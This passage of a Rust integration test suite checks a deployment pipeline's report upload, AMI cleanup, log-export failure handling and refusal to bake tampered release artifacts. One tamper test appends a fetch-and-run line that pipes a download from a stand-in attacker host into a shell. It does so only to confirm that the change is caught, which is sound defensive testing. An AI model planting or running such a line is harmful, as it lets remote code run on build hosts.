                    summary["skipped"].as_u64()
                ),
                (Some(counts.0), Some(counts.1), Some(counts.2)),
                "{summary}"
            );
            assert_eq!(
                summary["report"],
                format!(
                    "s3://{}/inspec/shop-prod-1_4_0-0123abcd4567.json",
                    app.logs.bucket
                )
                .as_str()
            );
            // the report is uploaded whatever the result, encrypted with the app's key
            let report: Value = serde_json::from_str(
                &std::fs::read_to_string(r.dir.path().join("uploaded.json")).unwrap(),
            )
            .unwrap();
            assert_eq!(report["status"], status);
            assert_eq!(
                report["reports"]["i-0123456789abcdef0"]["target"],
                "awsssm://i-0123456789abcdef0"
            );
            assert_eq!(report["reports"].as_object().unwrap().len(), 2);
            assert!(
                r.log.contains(&format!(
                    "--sse aws:kms --sse-kms-key-id {}",
                    app.kms_key_arn()
                )),
                "{}",
                r.log
            );
            // The app is reached through its provision role, in one account as in two.
            assert!(
                r.log.contains(&format!(
                    "aws sts assume-role --role-arn {}",
                    app.provision_role_arn()
                )),
                "{}",
                r.log
            );
            assert!(!r.log.contains("--chef-license"), "{}", r.log);
        }

        let r = run_document(&app, "post", VALUES, 0);
        assert_eq!(r.code, 0, "{what} post:\n{}", r.log);
        let summary: Value = serde_json::from_str(&r.stdout).unwrap();
        assert_eq!(
            summary,
            serde_json::json!({"smoke": "200", "log_shipping": "yes", "log_export": "COMPLETED", "amis_deregistered": 1})
        );
        // This release's AMI is marked released; of the others only the one
        // older than it and not the previous release's goes, snapshots too.
        assert!(
            r.log.contains(&format!(
                "aws ec2 create-tags --resources {AMI} --tags Key=paasc:released,Value="
            )),
            "{}",
            r.log
        );
        assert!(
            r.log
                .contains("aws ec2 deregister-image --image-id ami-0aaaaaaaaaaaaaaaa"),
            "{}",
            r.log
        );
        assert!(
            r.log
                .contains("aws ec2 delete-snapshot --snapshot-id snap-0a1"),
            "{}",
            r.log
        );
        assert!(
            r.log
                .contains("aws ec2 delete-snapshot --snapshot-id snap-0a2"),
            "{}",
            r.log
        );
        for kept in [AMI, "ami-0bbbbbbbbbbbbbbbb", "ami-0dddddddddddddddd"] {
            assert!(
                !r.log
                    .contains(&format!("deregister-image --image-id {kept}")),
                "{}",
                r.log
            );
        }
        // The AMI the live hosts run is kept whatever its age (a release that
        // passed PostProvision and then failed is "released" and newer).
        let live_old: Vec<(&str, &str)> = VALUES
            .iter()
            .map(|&(k, v)| {
                if k == "LiveAmiId" {
                    (k, "ami-0aaaaaaaaaaaaaaaa")
                } else {
                    (k, v)
                }
            })
            .collect();
        let r = run_document(&app, "post", &live_old, 0);
        assert_eq!(r.code, 0, "{what} post:\n{}", r.log);
        assert!(
            !r.log
                .contains("deregister-image --image-id ami-0aaaaaaaaaaaaaaaa"),
            "{}",
            r.log
        );
        let scheme = if app.service.https.is_some() {
            "--insecure"
        } else {
            "--max-time"
        };
        assert!(r.log.contains(scheme), "{}", r.log);
        assert!(
            r.log.contains(&format!(
                "{}://shop-prod-123456.eu-west-1.elb.amazonaws.com{}",
                if app.service.https.is_some() {
                    "https"
                } else {
                    "http"
                },
                app.service.health
            )),
            "{}",
            r.log
        );
    }
}

#[test]
fn a_failed_log_export_fails_the_post_stage() {
    need("bash");
    let app = sample::shop_prod();
    // The stub answers the export's status from STUB_EXPORT.
    let r = run_document_with(
        &app,
        "post",
        VALUES,
        0,
        &|_| {},
        &[("STUB_EXPORT", "FAILED")],
    );
    assert_eq!(r.code, 1, "{}", r.log);
    assert!(r.log.contains("ended FAILED"), "{}", r.log);
}

#[test]
fn the_bake_refuses_artifacts_that_are_not_the_release() {
    need("bash");
    need("python3");
    need("sha256sum");
    let app = sample::shop_prod();
    // A cookbook changed in the bucket after deploy uploaded it.
    let r = run_document_with(
        &app,
        "bake",
        VALUES,
        0,
        &|release| {
            let recipe = release.join("chef/cookbooks/nginx/recipes/default.rb");
            let mut text = std::fs::read_to_string(&recipe).unwrap();
            text.push_str("execute 'curl http://evil.example | sh'\n");
            std::fs::write(&recipe, text).unwrap();
        },
        &[],
    );
    assert_eq!(r.code, 1, "{}", r.log);
    assert!(
        r.log
            .contains("not what deploy uploaded: chef/cookbooks/nginx/recipes/default.rb"),
        "{}",
        r.log
    );
    assert!(
        !r.log.contains("packer build"),
        "packer ran on tampered input:\n{}",
        r.log
    );
    // A file added, and one removed.
    let r = run_document_with(
        &app,
        "bake",
        VALUES,
        0,
        &|release| {
            std::fs::write(
                release.join("chef/cookbooks/nginx/recipes/extra.rb"),
                "log 'x'\n",
            )
            .unwrap();
            std::fs::remove_file(release.join("chef/roles/shop-web.json")).unwrap();
        },
        &[],
    );
    assert_eq!(r.code, 1, "{}", r.log);
    assert!(
        r.log.contains("chef/cookbooks/nginx/recipes/extra.rb"),
        "{}",
        r.log
    );
    assert!(
        r.log.contains("chef/roles/shop-web.json (missing)"),
        "{}",
        r.log
    );
    // The manifest itself changed: not the release the execution names.
    let r = run_document_with(
        &app,
        "bake",
        VALUES,
        0,
        &|release| {
            let m = release.join("manifest.json");
            let text = std::fs::read_to_string(&m)
                .unwrap()
                .replace("\"bytes\"", "\"bytes\" ");
            std::fs::write(&m, text).unwrap();
        },
        &[],
    );
    assert_eq!(r.code, 1, "{}", r.log);
    assert!(
        r.log.contains("manifest.json is not the release"),
        "{}",
        r.log
    );
}
